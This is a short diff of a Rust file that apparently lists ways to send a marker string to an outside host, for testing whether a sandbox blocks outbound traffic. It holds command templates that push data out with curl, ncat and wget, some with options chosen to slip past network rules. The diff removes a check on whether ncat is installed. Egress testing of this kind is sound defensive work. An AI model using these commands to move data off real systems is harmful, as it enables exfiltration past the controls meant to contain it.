@@ -253,7 +253,7 @@ pub const WAYS: &[Entry] = &[
     tls!("N249-interface", "by a link of choice", "curl -s -m 2 --interface {link} http://{url}/{mark}"),
     tls!("N250-source-port", "from a port of choice", "curl -s -m 2 --local-port 1024-2048 http://{url}/{mark}"),
     tls!("N251-fast-open", "with data in the first segment", "curl -s -m 2 --tcp-fastopen http://{url}/{mark}"),
-    tls!("N252-ncat", "ncat", "echo {mark} | timeout 2 ncat {ip} 9000").needs("command -v ncat", "there is no ncat here"),
+    tls!("N252-ncat", "ncat", "echo {mark} | timeout 2 ncat {ip} 9000"),
     tls!("N253-wget", "wget", "wget -q -T 2 -t 1 -O - http://{url}/{mark}").needs("command -v wget", "there is no wget here"),
     // What this suite does not try by a line.
     declared!("B68", "an allowed service that takes anyone's account: declared in SECURITY.md"),
